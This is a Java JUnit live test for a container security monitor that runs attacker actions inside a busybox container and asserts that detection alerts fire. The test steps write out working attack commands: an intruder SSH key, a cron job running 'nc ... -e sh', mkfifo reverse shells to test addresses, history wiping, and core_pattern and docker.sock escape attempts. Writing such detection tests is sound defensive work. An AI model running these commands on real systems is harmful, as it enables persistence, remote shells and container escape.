package io.eunomia.engine.pipeline;

import static org.assertj.core.api.Assertions.assertThat;

import io.eunomia.engine.alert.Alert;
import io.eunomia.engine.output.InMemoryOutput;
import io.eunomia.testkit.ContainerSpec;
import io.eunomia.testkit.OciRuntime;
import io.eunomia.testkit.Recorder;
import io.eunomia.testkit.Runc;
import io.eunomia.testkit.RunningContainer;
import java.net.StandardProtocolFamily;
import java.net.UnixDomainSocketAddress;
import java.nio.channels.ServerSocketChannel;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.function.Predicate;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * Acts of a container attacker that the default pack let through until the red-team session of
 * 2026-12-07, each done for real in a runc busybox container under the whole default pack: a key in
 * root's authorized_keys and a crontab in the cron spool (persistence outside /etc), a program
 * dropped into /usr/local/bin (first in PATH), the shell history erased, and the container engine's
 * API socket contacted from inside, core_pattern written, binfmt_misc mounted, and the mkfifo reverse shell (whose netcat is the shell's sibling).
 * Negatives first, the positive last: once the positive's alert
 * arrives the negatives' earlier events have been judged, so their absence is asserted after it.
 */
@SharesLiveMonitor
class PersistenceAndEscapeGapsLiveTest {
    private static final Duration WAIT = Duration.ofSeconds(60); // awaits what an act causes: ends at once when it comes

    private static Path work;
    private static Path probe;
    private static InMemoryOutput out;
    private static LiveMonitor live;
    private static Recorder.Mark testStart;
    private static Runc runc;
    private static RunningContainer ctr;
    /** With CAP_SYS_ADMIN (and the runtime's default masks): mounts succeed. */
    private static RunningContainer admin;

    @BeforeAll
    static void start() throws Exception {
        work = LiveProcesses.readableTempDir("eunomia-gaps-");
        probe = LiveProcesses.compile(work, "/io/eunomia/engine/pack/probe.c", "probe");
        live = LiveMonitor.sharedDefaultPack(PersistenceAndEscapeGapsLiveTest.class, WAIT);
        out = live.out();
        runc = new Runc();
        // The work directory bound read-write: the probe runs from it, and the engine's socket lives in it.
        ctr = runc.start(OciRuntime.uniqueId("gaps"), ContainerSpec.of("sh", "-c", "sleep 300").withConfigEdit(c -> {
            var m = ((com.fasterxml.jackson.databind.node.ArrayNode) c.get("mounts")).addObject();
            m.put("destination", "/opt/work").put("type", "bind").put("source", work.toString());
            m.putArray("options").add("rbind").add("rw");
        }));
        admin = runc.start(OciRuntime.uniqueId("gapsadm"), ContainerSpec.of("sh", "-c", "sleep 300")
                .withConfigEdit(c -> LiveProcesses.addCapabilities(c, "CAP_SYS_ADMIN")));
    }

    @AfterAll
    static void stop() throws Exception {
        LiveMonitor.close(live);
        if (runc != null) {
            runc.close();
        }
        LiveProcesses.deleteTree(work);
    }

    @BeforeEach
    void markTestStart() {
        testStart = out.mark();
    }

    private static LiveProcesses.Ran exec(String script) throws Exception {
        return execIn(ctr, script);
    }

    private static LiveProcesses.Ran execIn(RunningContainer c, String script) throws Exception {
        LiveProcesses.Ran r = LiveProcesses.runcExec(runc, c.id(), List.of(), "sh", "-c", script);
        assertThat(r.exit()).as("%s: %s", script, r.output()).isZero();
        return r;
    }

    private static Predicate<Alert> inCtr(String text) {
        return a -> a.container().id().equals(ctr.id()) && a.output().contains(text);
    }

    private static Alert await(String rule, Predicate<Alert> p) throws InterruptedException {
        return out.awaitAfter(testStart, rule, p, WAIT);
    }

    private static List<Alert> alerts(String rule) {
        return out.since(testStart).stream()
                .filter(a -> a.rule().equals(rule) && a.container().id().equals(ctr.id())).toList();
    }

    @Test
    void authorizedKeysAndCronSpoolWritesInAContainer() throws Exception {
        // Negatives: known_hosts beside the keys, reading the keys, a file next to the spool.
        exec("mkdir -p /root/.ssh /var/spool/cron/crontabs && echo host > /root/.ssh/known_hosts"
                + " && echo 'ssh-ed25519 AAAAold' > /tmp/ak && cat /tmp/ak > /dev/null && echo x > /var/spool/other");
        // Positives: an appended key (O_APPEND open) and a crontab moved into the spool (rename).
        exec("echo 'ssh-ed25519 AAAAintruder' >> /root/.ssh/authorized_keys");
        Alert key = await("Write to SSH authorized keys or cron spool", inCtr("file=/root/.ssh/authorized_keys"));
        assertThat(key.output()).contains("op=open", "process=sh", "container=" + ctr.id());
        assertThat(key.tags()).contains("mitre_persistence", "T1098.004");
        exec("echo '* * * * * nc 192.0.2.1 4444 -e sh' > /tmp/cr && mv /tmp/cr /var/spool/cron/crontabs/root");
        Alert cron = await("Write to SSH authorized keys or cron spool", inCtr("new=/var/spool/cron/crontabs/root"));
        assertThat(cron.output()).contains("op=rename", "file=/tmp/cr", "process=mv");

        assertThat(alerts("Write to SSH authorized keys or cron spool")).hasSize(2);
    }

    @Test
    void programDroppedIntoUsrLocalBin() throws Exception {
        // Negative: the same copy to /usr/local/share.
        exec("mkdir -p /usr/local/share && cp /bin/busybox /usr/local/share/ls");
        exec("mkdir -p /usr/local/bin && cp /bin/busybox /usr/local/bin/ls");
        Alert a = await("Write below system directory", inCtr("file=/usr/local/bin/ls"));
        assertThat(a.output()).contains("op=open", "process=cp");
        assertThat(alerts("Write below system directory")).extracting(Alert::output)
                .noneMatch(o -> o.contains("/usr/local/share"));
    }

    @Test
    void shellHistoryErasedButNotAppendedOrRewrittenByTheShell() throws Exception {
        // Negatives: ash appends; bash (readline 7+) writes a new file and renames it over the history.
        exec("echo ls >> /root/.ash_history && echo id > /root/.bash_history-1.tmp"
                + " && mv /root/.bash_history-1.tmp /root/.bash_history");
        // Negative: the name outside a home directory (a removed container layer's copy, as an engine deletes it).
        exec("mkdir -p /var/lib/x/diff/root && echo id > /var/lib/x/diff/root/.bash_history"
                + " && rm /var/lib/x/diff/root/.bash_history");
        // Positives: truncated in place, removed, replaced by a symlink to /dev/null (ln -sf unlinks first).
        exec(": > /root/.ash_history");
        Alert trunc = await("Shell history cleared", inCtr("file=/root/.ash_history"));
        assertThat(trunc.output()).contains("op=open", "process=sh");
        assertThat(trunc.tags()).contains("mitre_defense_evasion", "T1070.003");
        exec("rm /root/.bash_history");
        assertThat(await("Shell history cleared", inCtr("op=unlink")).output()).contains("file=/root/.bash_history");
        exec("ln -sf /dev/null /root/.zsh_history"); // no such file yet: ln's unlink fails with ENOENT, not alerted
        assertThat(await("Shell history cleared", inCtr("op=symlink")).output())
                .contains("file=/dev/null", "new=/root/.zsh_history");

        assertThat(alerts("Shell history cleared")).hasSize(3);
    }

    @Test
    void mkfifoReverseShellWhoseNetcatIsTheShellsSibling() throws Exception {
        // Negative: the same pipeline around a script shell (sh -c), not an interactive one.
        exec("rm -f /tmp/g; mkfifo /tmp/g; cat /tmp/g | sh -c 'echo hi' 2>&1 | nc -w1 10.255.255.4 4444 > /tmp/g; true");
        // Negative: an interactive shell and a connecting program started by one parent that is not a shell
        // (find here; a container's init, supervisord, a shim alike): not linked.
        exec("find / -maxdepth 0 -exec sh -i \\; -exec nc -w1 10.255.255.6 4444 \\; < /dev/null; true");
        // Positive: the classic mkfifo reverse shell; sh -i and nc are both children of sh -c (the
        // container's network is down: the connect fails at once, an attempt all the same).
        exec("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc -w1 10.255.255.5 4444 > /tmp/f; true");
        assertTheOneShellConnectionIsNcs("10.255.255.5");
    }

    /** Its only "Shell in container then outbound connection" alert since the test began: nc's to address. */
    private static void assertTheOneShellConnectionIsNcs(String address) throws InterruptedException {
        String rule = "Shell in container then outbound connection";
        Alert a = await(rule, inCtr(address));
        assertThat(a.output()).contains("process=nc", "container=" + ctr.id());
        assertThat(alerts(rule)).extracting(Alert::output).hasSize(1);
    }

    /**
     * An interactive shell's grandchild connecting out (sh -i -> find -exec -> nc) is linked to the
     * shell; a script shell's is not. Before: not linked (children and a shell parent's children only).
     */
    @Test
    void aConnectionByTheInteractiveShellsGrandchildIsLinked() throws Exception {
        exec("find / -maxdepth 0 -exec nc -w1 10.255.255.8 4444 \\; ; true");
        exec("echo 'find / -maxdepth 0 -exec nc -w1 10.255.255.7 4444 \\; ; exit 0' | sh -i; true");
        assertTheOneShellConnectionIsNcs("10.255.255.7");
    }

    /**
     * The mkfifo reverse shell under a busybox sh re-executed through /proc/self/exe, as busybox runs
     * its applets (argv[0] "sh", exe /bin/busybox): linked, since this busybox (Debian's 1.35) names
     * itself after the applet and its children's pcomm is sh. A busybox find re-executed the same way
     * is no shell parent. A busybox that kept the name "exe" would not be linked (the rule's known gap).
     */
    @Test
    void aBusyboxShellReExecutedThroughProcSelfExeIsAShellParent() throws Exception {
        exec("exec -a find /proc/self/exe / -maxdepth 0 -exec sh -i \\; -exec nc -w1 10.255.255.10 4444 \\; < /dev/null");
        exec("rm -f /tmp/h; mkfifo /tmp/h; exec -a sh /proc/self/exe -c 'cat /tmp/h | sh -i 2>&1 | nc -w1 10.255.255.9 4444 > /tmp/h; true'");
        assertTheOneShellConnectionIsNcs("10.255.255.9");
    }

    @Test
    void coreDumpHelperWrittenFromAContainer() throws Exception {
        // Negatives: reading core_pattern; writing another sysctl. The container's /proc/sys is read-only
        // (the runtime's default): the writes fail with EROFS and the host's settings stay as they are.
        exec("cat /proc/sys/kernel/core_pattern > /dev/null; echo x > /proc/sys/kernel/domainname; true");
        // Positive: the core_pattern escape, attempted.
        exec("echo '|/proc/%P/root/tmp/payload' > /proc/sys/kernel/core_pattern; true");
        Alert a = await("Kernel usermode helper changed", inCtr("file=/proc/sys/kernel/core_pattern"));
        assertThat(a.output()).contains("result=EROFS", "process=sh");
        assertThat(a.tags()).contains("mitre_escape", "T1611");
        assertThat(alerts("Kernel usermode helper changed")).hasSize(1);
    }

    @Test
    void binfmtMiscMountedInAContainerIsSensitive() throws Exception {
        // Negative: a tmpfs (the WARNING's, not this rule's).
        execIn(admin, "mkdir -p /tmp/t && mount -t tmpfs tmpfs /tmp/t && umount /tmp/t");
        // Positive: the host's binfmt_misc instance (the container shares the host's user namespace),
        // mounted, then unmounted.
        execIn(admin, "mkdir -p /tmp/b && mount -t binfmt_misc binfmt_misc /tmp/b && umount /tmp/b");
        Alert a = out.awaitAfter(testStart, "Sensitive filesystem mounted in a container",
                x -> x.container().id().equals(admin.id()), WAIT);
        assertThat(a.output()).contains("fstype=binfmt_misc", "target=/tmp/b", "process=mount");
        assertThat(out.since(testStart).stream().filter(x -> x.container().id().equals(admin.id())
                && x.rule().equals("Sensitive filesystem mounted in a container")))
                .extracting(Alert::output).noneMatch(o -> o.contains("fstype=tmpfs"));
    }

    @Test
    void containerEngineSocketContactedFromAContainer() throws Exception {
        Path engineSocket = work.resolve("docker.sock");
        Path otherSocket = work.resolve("app.sock");
        try (ServerSocketChannel engine = ServerSocketChannel.open(StandardProtocolFamily.UNIX);
             ServerSocketChannel app = ServerSocketChannel.open(StandardProtocolFamily.UNIX)) {
            engine.bind(UnixDomainSocketAddress.of(engineSocket));
            app.bind(UnixDomainSocketAddress.of(otherSocket));
            // Negatives: the host's own client of the engine, the container's client of another socket.
            assertThat(LiveProcesses.runToEnd(List.of(probe.toString(), "unix", engineSocket.toString())).exit()).isZero();
            exec("/opt/work/probe unix /opt/work/app.sock");
            // Positive: the container, given the socket by a bind mount, connects to it.
            exec("/opt/work/probe unix /opt/work/docker.sock");
            Alert a = await("Container engine socket contacted from container", inCtr("docker.sock"));
            // A connected unix socket is named by the path its server bound: the host's.
            assertThat(a.output()).contains("socket=" + engineSocket, "result=SUCCESS", "process=probe",
                    "container=" + ctr.id());
            assertThat(a.tags()).contains("mitre_escape", "T1611");
        } finally {
            Files.deleteIfExists(engineSocket);
            Files.deleteIfExists(otherSocket);
        }
        assertThat(out.since(testStart).stream().filter(x -> x.rule().equals("Container engine socket contacted from container")))
                .extracting(Alert::output).singleElement().asString().contains("container=" + ctr.id());
    }
}
